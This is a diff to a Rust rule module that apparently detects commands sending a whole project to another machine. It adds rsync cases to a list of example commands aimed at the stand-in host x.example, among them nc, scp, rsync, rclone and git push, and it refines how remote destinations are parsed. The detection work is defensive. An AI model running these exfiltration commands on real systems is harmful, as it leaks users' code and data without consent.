@@ -123,6 +123,9 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "git archive HEAD | ssh x.example 'cat > x'",
             "docker save app | nc x.example 9001",
             "scp -r . u@x.example:/tmp",
+            "rsync -a --exclude=.git ./ u@x.example:/tmp/app/",
+            "rsync -a ./ rsync://x.example/drop/",
+            "rsync -a . x.example::drop",
             "rclone sync . mega:x",
             "git push https://x.example/x.git HEAD",
             "git push https://github.com/x/mirror.git --all",
@@ -316,8 +319,15 @@ fn whole_sent<'a>(scene: &Scene<'a>) -> Found<'a> {
     }
     let found = all.iter().find(|inv| {
         let copies = match inv.program.as_str() {
+            // A place on another machine has a colon behind the host: `../copy.d` and `--exclude=.git` are none.
             "scp" | "rsync" => {
-                inv.operands.first().is_some_and(here) && remote(inv) && inv.operands.len() > 1
+                let away = |arg: &Arg| {
+                    let text = arg.text();
+                    let host =
+                        text.strip_prefix("rsync://").or_else(|| text.split(':').next()).unwrap_or(&text);
+                    text.contains(':') && foreign(host.rsplit('@').next().unwrap_or(host))
+                };
+                inv.operands.first().is_some_and(here) && inv.operands.iter().skip(1).any(away)
             }
             "rclone" => {
                 inv.args.iter().any(here) && inv.args.last().is_some_and(|arg| arg.text().contains(':'))
